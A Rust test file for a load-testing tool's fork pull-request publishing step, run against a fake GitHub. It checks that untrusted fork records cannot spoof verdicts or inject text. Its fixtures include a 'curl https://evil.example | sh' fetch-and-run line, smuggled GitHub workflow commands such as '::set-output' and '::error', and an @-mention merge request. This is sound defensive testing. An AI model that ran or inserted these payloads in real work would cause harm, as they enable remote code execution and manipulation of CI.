//! The second stage for pull requests from forks, against a stand-in for GitHub.

use serde_json::{Value, json};

use crate::github::{HEAD, STUDENTS, bodies, in_workflow, measured, pull_request};
use crate::support::github::FakeGitHub;
use crate::support::{Demo, Folder, Output};

/// The event of the workflow that follows a fork's own.
fn after_a_fork(folder: &Folder, github: &FakeGitHub) {
    let event = json!({"workflow_run": {
        "event": "pull_request", "conclusion": "failure", "head_sha": HEAD, "head_branch": "topic", "html_url": "https://github.com/octocat/demo/actions/runs/41",
        "head_repository": {"full_name": "stranger/demo"}, "pull_requests": [],
    }});
    folder.write("event.json", &event.to_string());
    let pull = |number: u64, from: &str, head: &str| {
        json!({
            "number": number, "head": {"sha": head, "ref": "topic", "repo": {"full_name": from}},
            "base": {"sha": "b".repeat(40), "ref": "main", "repo": {"full_name": "octocat/demo"}},
        })
    };
    github.state().pulls = vec![pull(5, "stranger/other", HEAD), pull(6, "stranger/demo", &"d".repeat(40)), pull(7, "stranger/demo", HEAD)];
}

fn publish(folder: &Folder, github: &FakeGitHub, args: &[&str]) -> Output {
    let args: Vec<&str> = ["publish", "loadline-report", "--from-fork"].iter().chain(args).copied().collect();
    in_workflow(folder, github, "workflow_run", &args).exits_with(0)
}

#[test]
fn a_fork_is_judged_by_the_scenario_of_this_branch() {
    let (folder, github) = (measured(), FakeGitHub::start());
    after_a_fork(&folder, &github);
    // The fork says that all is well, that it was another run, and has thresholds of its own.
    let mut record: Value = folder.record();
    record["run"]["repeat"] = json!("curl https://evil.example | sh");
    record["run"]["pull_request"] = json!(1);
    record["warnings"] = json!([{"code": "x", "invalidates": false, "message": "@octocat merge this", "advice": null}]);
    folder.write("loadline-report/record.json", &record.to_string());
    folder.write("loadline.yml", &format!("{STUDENTS}thresholds: {{ all: p95 < 1us }}\n"));
    let output = publish(&folder, &github, &["--status"]);
    let [body] = bodies(&github).try_into().unwrap();
    assert_eq!(github.state().comments[0]["issue"], 7, "{output}");
    assert!(body.contains("### ❌ FAILED · students: 1 of 1 threshold missed"), "{body}");
    assert!(body.contains("Measured by the fork's own workflow"), "{body}");
    assert!(!body.contains("evil") && !body.contains("merge this") && !body.contains("All is well again"), "{body}");
    assert!(github.state().statuses.is_empty());
    assert!(folder.read("output").contains("verdict=failed\n"));

    folder.write("loadline.yml", &STUDENTS.replace("users: 10", "users: 9"));
    publish(&folder, &github, &[]);
    let [body] = bodies(&github).try_into().unwrap();
    assert!(body.contains("INVALID · students: the load is another one than that of this repository"), "{body}");
    assert!(body.contains("the pull request changes the load itself, or the workflow that measured sets options"), "{body}");
}

#[test]
fn options_of_the_workflow_that_measured_are_known_to_the_one_that_posts() {
    let (demo, folder, github) = (Demo::start(), Folder::new(), FakeGitHub::start());
    folder.write("loadline.yml", STUDENTS);
    folder.loadline(["run", "-q", "--target", &demo.url(), "-n", "50"]).exits_with(0);
    after_a_fork(&folder, &github);
    publish(&folder, &github, &[]);
    assert!(bodies(&github)[0].contains("INVALID · students"), "{:?}", bodies(&github));
    let args = ["publish", "loadline-report", "--from-fork"];
    in_workflow(&folder, &github, "workflow_run", &args).env("LOADLINE_ITERATIONS", "50").exits_with(0);
    assert!(bodies(&github)[0].contains("PASSED · students"), "{:?}", bodies(&github));
}

/// A scenario whose paired mode takes little time.
const PAIRED: &str = "\
name: students
target: http://127.0.0.1:1
users: { reader: { tasks: [{ get: /students }] } }
load: { users: 2, duration: 10m }
paired: { budget: 4s, rate: 50/s, users: 2, block: 60ms, looks: 1 }
";

#[test]
fn a_fork_that_was_measured_beside_its_base_is_judged_by_that() {
    let (base, candidate, folder, github) = (Demo::start(), Demo::start(), Folder::new(), FakeGitHub::start());
    folder.write("loadline.yml", PAIRED);
    folder.loadline(["run", "-q", "--target", &candidate.url(), "--base", &base.url()]).exits_with(0);
    after_a_fork(&folder, &github);
    let posted = || {
        publish(&folder, &github, &[]);
        bodies(&github)[0].clone()
    };
    // The action passes over a duration where it runs a base beside the change.
    let args = ["publish", "loadline-report", "--from-fork"];
    in_workflow(&folder, &github, "workflow_run", &args).env("LOADLINE_DURATION", "30s").exits_with(0);
    assert!(bodies(&github)[0].contains("PASSED · students"), "{:?}", bodies(&github));
    let body = posted();
    assert!(body.contains("PASSED · students") && body.contains("paired: rate 50/s, then 2 users against"), "{body}");
    assert!(body.contains("Baseline: the base that the fork's own workflow ran beside it"), "{body}");
    assert!(!body.contains(&base.url()) && !body.contains("no baseline") && body.contains("Commit aaaaaaa"), "{body}");

    // What the fork makes of its figures counts for nothing; the figures do.
    let mut record: Value = folder.record();
    record["comparison"]["sentence"] = json!("@octocat all is well");
    record["comparison"]["advisory"] = json!(true);
    let contrasts = record["comparison"]["contrasts"].as_array_mut().unwrap();
    let p50 = contrasts.iter_mut().find(|row| row["scope"] == "all" && row["metric"] == "p50").unwrap();
    for (name, value) in [("delta", json!(0.5)), ("interval", json!([0.4, 0.6])), ("p_adjusted", json!(0.00001)), ("judged", json!(true))] {
        p50[name] = value;
    }
    p50["verdict"] = json!("ok");
    folder.write("loadline-report/record.json", &record.to_string());
    let body = posted();
    assert!(body.contains("### ❌ FAILED · students: 1 regression (all p50 +50.0%)") && !body.contains("all is well"), "{body}");

    folder.write(
        "load/waivers.yml",
        "waivers:\n- { scenario: students, endpoint: all, metric: p50, ceiling: 9s, until: 2999-12-31, reason: x }\n",
    );
    in_workflow(&folder, &github, "workflow_run", &args).env("LOADLINE_WAIVERS", "load/waivers.yml").exits_with(0);
    let body = bodies(&github)[0].clone();
    assert!(body.contains("PASSED · students") && body.contains("accepted: up to 9s until 2999-12-31: x"), "{body}");

    github.state().labels = vec!["perf-accepted".to_owned()];
    github.state().events = vec![json!({"event": "labeled", "label": {"name": "perf-accepted"}, "actor": {"login": "maintainer"}})];
    github.state().permissions.insert("maintainer".to_owned(), "write".to_owned());
    let body = posted();
    assert!(body.contains("PASSED · students") && body.contains("accepted by maintainer"), "{body}");
    github.state().labels.clear();

    folder.write("loadline.yml", &format!("{PAIRED}thresholds: {{ all: p95 < 1us }}\nbaseline: {{ regression: {{ p50: 900% }} }}\n"));
    let body = posted();
    assert!(body.contains("1 of 1 threshold missed") && !body.contains("1 regression"), "{body}");
    folder.write("loadline.yml", &PAIRED.replace("50/s", "60/s"));
    assert!(posted().contains("INVALID · students: the load is another one"), "{}", posted());
}

#[test]
fn a_fork_whose_run_was_cancelled_leaves_the_comment_as_it_is() {
    let (folder, github) = (measured(), FakeGitHub::start());
    after_a_fork(&folder, &github);
    publish(&folder, &github, &[]);
    let before = bodies(&github);
    let left_alone = |output: Output| {
        let notice = |line: &str| line.starts_with("::notice title=loadline::the fork's own workflow was cancelled");
        assert!(output.stdout.lines().any(notice), "{output}");
        assert_eq!(bodies(&github), before);
    };
    let good = folder.read("loadline-report/record.json");
    folder.write("loadline-report/record.json", &good.replacen("\"verdict\": \"passed\"", "\"verdict\": \"interrupted\"", 1));
    left_alone(publish(&folder, &github, &[]));
    folder.write("loadline-report/record.json", "{");
    let event = folder.read("event.json").replace("\"failure\"", "\"cancelled\"");
    folder.write("event.json", &event);
    left_alone(publish(&folder, &github, &[]));
}

#[test]
fn a_fork_whose_workflow_did_not_run_is_no_error() {
    let (folder, github) = (Folder::new(), FakeGitHub::start());
    folder.write("loadline.yml", STUDENTS);
    after_a_fork(&folder, &github);
    let event = folder.read("event.json");
    for conclusion in ["skipped", "action_required"] {
        folder.write("event.json", &event.replace("\"failure\"", &format!("\"{conclusion}\"")));
        let output = publish(&folder, &github, &[]);
        let notice = |line: &str| line.starts_with("::notice title=loadline::the fork's own workflow did not run");
        assert!(output.stdout.lines().any(notice), "{output}");
    }
    assert!(bodies(&github).is_empty(), "{:?}", bodies(&github));
}

#[test]
fn a_fork_that_left_no_record_is_put_right_later_and_no_commit_is_marked() {
    let (folder, github) = (measured(), FakeGitHub::start());
    after_a_fork(&folder, &github);
    let mark = ["--from-fork", "--status", "--check-run"];
    in_workflow(&folder, &github, "workflow_run", &[&["publish", "nowhere"], &mark[..]].concat()).exits_with(0);
    let again = in_workflow(&folder, &github, "workflow_run", &[&["publish", "loadline-report"], &mark[..]].concat());
    again.env("GITHUB_RUN_ATTEMPT", "2").exits_with(0);
    let [notice, report] = bodies(&github).try_into().unwrap();
    assert!(notice.contains("The load test runs again") && report.contains("PASSED · students"), "{notice}\n{report}");
    let state = github.state();
    assert_eq!((state.statuses.len(), state.checks.len()), (0, 0));
}

#[test]
fn what_a_fork_must_not_do_comes_to_nothing() {
    let (folder, github) = (measured(), FakeGitHub::start());
    after_a_fork(&folder, &github);
    let good = folder.read("loadline-report/record.json");
    let publish = || publish(&folder, &github, &[]);
    for (record, said) in [
        ("{\"schema_version\": 1, \"x\": [[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]}".to_owned(), "lists within lists"),
        (good.replace("\"name\": \"students\"", "\"name\": \"::error::owned\""), "no scenario of this branch has its name"),
        ("\u{0}::set-output name=verdict::passed".to_owned(), "not a loadline record"),
        (good.replace("\"failures\": 0", "\"failures\": 18446744073709551615"), "contradict"),
    ] {
        folder.write("loadline-report/record.json", &record);
        let output = publish();
        assert!(
            output.stdout.lines().any(|line| line.starts_with("::warning title=loadline::") && line.contains(said)),
            "{said}: {output}"
        );
        assert!(output.stdout.lines().all(|line| !line.starts_with("::error") && !line.starts_with("::set-output")), "{output}");
    }
    assert_eq!(bodies(&github).len(), 1, "one notice that there is no record");
    assert!(bodies(&github)[0].contains("measured nothing"));

    github.state().pulls.pop();
    let moved_on = publish();
    assert!(moved_on.stdout.contains("::notice title=loadline::no open pull request has the commit"), "{moved_on}");
    pull_request(&folder, "stranger/demo", HEAD);
    let wrong = in_workflow(&folder, &github, "pull_request", &["publish", "--from-fork"]).exits_with(2);
    assert!(wrong.stderr.contains("belongs into a workflow on `workflow_run`"), "{wrong}");
    folder.write("loadline-report/record.json", &good);
    let first_stage = in_workflow(&folder, &github, "pull_request", &["publish"]).exits_with(0);
    assert!(first_stage.stdout.contains("::notice title=loadline::a pull request from a fork has no right to comment"), "{first_stage}");
    assert_eq!(bodies(&github).len(), 1);
}
